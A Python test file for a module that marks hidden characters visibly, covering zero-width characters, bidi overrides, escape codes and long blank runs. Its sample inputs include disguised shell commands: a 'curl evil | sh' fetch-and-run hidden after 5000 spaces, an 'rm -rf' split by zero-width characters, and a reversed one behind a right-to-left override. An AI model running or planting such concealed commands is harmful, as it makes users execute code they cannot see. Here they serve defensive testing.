"""``shown.visible`` looks only at the characters it may have to mark; what it returns is still, character by
character, the definition (``shown._char`` of each character, then the blank runs counted) -- on hostile text,
ordinary text and everything between. The timing side is ``bench/pages.py --shown`` (no wall clock here)."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from actions import shown

SAMPLES = [
    "",
    "make build",
    "ls \u202e fr- mr",
    "rm\u200b -rf /tmp/x\u200d\ufeff",
    "echo \x1b[8mhidden\x1b[0m done\r\n",
    "a\x00b\ud800c\udfff",
    "café naïve Ελληνικά 日本語 \u3164 \u2800 \ufe0f \U000e0100",
    "line\n\n\n\n\n\nafter\ttab",
    "echo hi" + " " * 5000 + "; curl evil | sh",
    "\u00a0" * 30 + "\u2028\u2029\u0085",
    "x" * 100_000,
]


def _by_definition(text: str, lines: bool) -> str:
    out = "".join(shown._char(ch, lines) for ch in text)
    out = shown._SPACES.sub(lambda m: f"⟨{len(m.group())} spaces⟩", out)
    if lines:
        out = shown._EMPTY_LINES.sub(lambda m: f"\n⟨{len(m.group()) - 1} empty lines⟩\n", out)
    return out


@pytest.mark.parametrize("lines", [False, True])
@pytest.mark.parametrize("text", SAMPLES, ids=range(len(SAMPLES)))
def test_visible_is_its_definition(text, lines):
    assert shown.visible(text, lines=lines) == _by_definition(text, lines)


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.characters(codec=None, min_codepoint=0, max_codepoint=0x10FFFF)), st.booleans())
def test_visible_is_its_definition_for_any_text(text, lines):
    assert shown.visible(text, lines=lines) == _by_definition(text, lines)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("ab <>\n\t\r\x1b\u202e\u200b\u3164é日 \ud800"))))
def test_a_page_pass_marks_what_visible_marks(text):
    """Outside form values, the page pass marks exactly the characters ``visible`` marks in a block."""
    html = f"<p>{text}</p>"
    assert shown.visible_markup(html) == "<p>" + "".join(shown._char(ch, True) for ch in text) + "</p>"
    assert shown.visible_markup(shown.visible_markup(html)) == shown.visible_markup(html)


def test_isprintable_is_the_marked_categories_over_every_code_point():
    """The fast path trusts ``str.isprintable`` to be False for exactly the categories ``_marked`` reads."""
    wrong = [
        hex(code)
        for code in range(0x110000)
        if chr(code) != " "
        and (not chr(code).isprintable()) != (unicodedata.category(chr(code)) in shown._MARKED_CATEGORIES)
    ]
    assert not wrong, wrong[:20]
